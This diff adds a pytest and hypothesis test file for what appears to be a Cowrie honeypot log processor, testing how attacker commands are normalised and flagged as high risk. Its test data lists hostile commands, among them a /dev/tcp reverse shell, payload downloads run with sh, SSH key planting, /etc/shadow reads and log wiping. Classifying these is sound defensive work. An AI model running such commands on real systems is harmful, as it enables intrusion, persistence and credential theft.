@@ -1,0 +1,163 @@
+"""Command lines as they are counted, and which of them matter most."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from cowrieprocessor.interpret.commands import MAX_COMMAND_CHARS, describe_command, is_high_risk, normalize_command
+from cowrieprocessor.sanitize import restore
+
+COMMANDS = st.text(st.characters(codec=None) | st.sampled_from(" \t\n\0\\\x1b\u202e\ud800;|&"), max_size=700)
+
+
+@pytest.mark.parametrize(
+    ("command", "counted"),
+    [
+        ("uname -a", "uname -a"),
+        ("  uname   -a\t\n", "uname -a"),
+        ("cd /tmp\r\nls", "cd /tmp ls"),
+        ("", ""),
+        (" \n", ""),
+        ("echo \x1b[31m\0", r"echo \x1b[31m\x00"),
+        ("echo -e \\x41", r"echo -e \\x41"),
+        ("echo \ud800", r"echo \ud800"),
+        ("echo é😀", "echo é😀"),
+        ("wget http://198.51.100.7/x; sh x", "wget http://198.51.100.7/x; sh x"),
+    ],
+)
+def test_commands_are_counted_without_their_white_space(command: str, counted: str) -> None:
+    """Blanks are collapsed and control characters escaped; nothing else is changed: evidence is kept as it came."""
+    assert normalize_command(command) == counted
+
+
+def test_commands_that_differ_stay_apart() -> None:
+    """Two commands that differ in more than blanks are counted apart."""
+    assert normalize_command("rm -rf /") != normalize_command("rm -rf /x")
+    assert normalize_command("echo \x1b") != normalize_command("echo \\x1b")
+
+
+@pytest.mark.parametrize("character", ["x", "é", "😀", "\0", "\\", "\u202e"])
+def test_long_commands_are_cut_and_stay_apart(character: str) -> None:
+    """A long command is cut to 512 characters, never within an escape, and its hash keeps it apart from others."""
+    one, other = normalize_command(character * 5000 + "1"), normalize_command(character * 5000 + "2")
+
+    for command in (one, other):
+        head, found, digest = command.rpartition("… sha256:")
+        assert found
+        assert re.fullmatch("[0-9a-f]{32}", digest)
+        assert set(restore(head)) == {character}
+        assert MAX_COMMAND_CHARS - 10 <= len(command) <= MAX_COMMAND_CHARS
+    assert one != other
+
+
+@pytest.mark.parametrize(("length", "cut"), [(512, False), (513, True)])
+def test_command_is_cut_only_if_it_is_too_long(length: int, cut: bool) -> None:
+    """A command of just as many characters as fit stays whole."""
+    assert ("sha256:" in normalize_command("x" * length)) == cut
+
+
+@given(COMMANDS)
+def test_any_command_can_be_stored(command: str) -> None:
+    """Whatever was typed, what is counted fits the column, is valid Unicode and holds no control character."""
+    counted = normalize_command(command)
+
+    assert len(counted) <= MAX_COMMAND_CHARS
+    assert not re.search(r"[\x00-\x1f\x7f-\x9f\u202a-\u202e\ud800-\udfff]", counted)
+    assert counted.encode().decode() == counted
+
+
+@given(COMMANDS)
+def test_short_cut_for_repeated_commands_changes_nothing(command: str) -> None:
+    """What is remembered of a command is what would be computed, the first time and every other."""
+    expected = (normalize_command(command), is_high_risk(command))
+
+    assert describe_command(command) == describe_command(command) == expected
+
+
+@given(st.lists(st.sampled_from(["uname", "-a", "\\", "'", "é", "\0"]), max_size=8), st.data())
+def test_blanks_make_no_difference(words: list[str], data: st.DataObject) -> None:
+    """The same words with other blanks between and around them are the same command."""
+    blanks = st.text(" \t\r\n", min_size=1, max_size=3)
+    spaced = "".join(data.draw(blanks) + word for word in words) + data.draw(blanks)
+
+    assert normalize_command(spaced) == normalize_command(" ".join(words))
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "wget http://198.51.100.7/x",
+        "cd /tmp; curl -O 198.51.100.7/x",
+        "/bin/busybox tftp -g -r x 198.51.100.7",
+        "chmod 777 x",
+        "chmod 0755 x",
+        "chmod +x x",
+        "chmod u+rwx x",
+        "chmod a=rwx x",
+        "chmod -R 777 /tmp",
+        "./x",
+        "cd /tmp && ./x",
+        "cd /tmp\n./x",
+        "cd /tmp\r\n  ./x",
+        "ls|/tmp/x",
+        "/dev/shm/x",
+        "echo ssh-rsa AAAA >> ~/.ssh/authorized_keys",
+        "crontab -l",
+        "cat /etc/passwd",
+        "cat /etc/shadow",
+        "echo /tmp/x.so > /etc/ld.so.preload",
+        "echo root:x|chpasswd",
+        "passwd",
+        "nc -l 4444",
+        "bash -i >& /dev/tcp/198.51.100.7/1 0>&1",
+        "echo Zm9v | base64 -d | sh",
+        "base64 --decode x",
+        "python3 -c 'import os'",
+        "perl -e 'print 1'",
+        "iptables -F",
+        "pkill -9 x",
+        "history -c",
+        "rm -rf /var/log",
+        "rm -fr /var/log",
+        "rm -rvf x",
+    ],
+)
+def test_commands_of_high_risk(command: str) -> None:
+    """Commands that fetch, run, hide or stay are of high risk."""
+    assert is_high_risk(command)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "",
+        "uname -a",
+        "ls -la /tmp/x",
+        "cat /proc/cpuinfo",
+        "chmod 644 x",
+        "chmod -x x",
+        "chmod go= ~/.ssh",
+        "rm x",
+        "rm -f x",
+        "rm -r x",
+        "echo nccat",
+        "free -m | grep Mem",
+        "python3 --version",
+        "base64 x",
+        "wgetrc",
+        "w",
+    ],
+)
+def test_commands_of_no_high_risk(command: str) -> None:
+    """Commands that only look around are not."""
+    assert not is_high_risk(command)
+
+
+def test_only_the_beginning_of_a_command_is_judged() -> None:
+    """What stands behind the first 4096 characters of a command is not looked at."""
+    assert is_high_risk("x" * 4000 + "; wget x")
+    assert not is_high_risk("x" * 4096 + "; wget x")
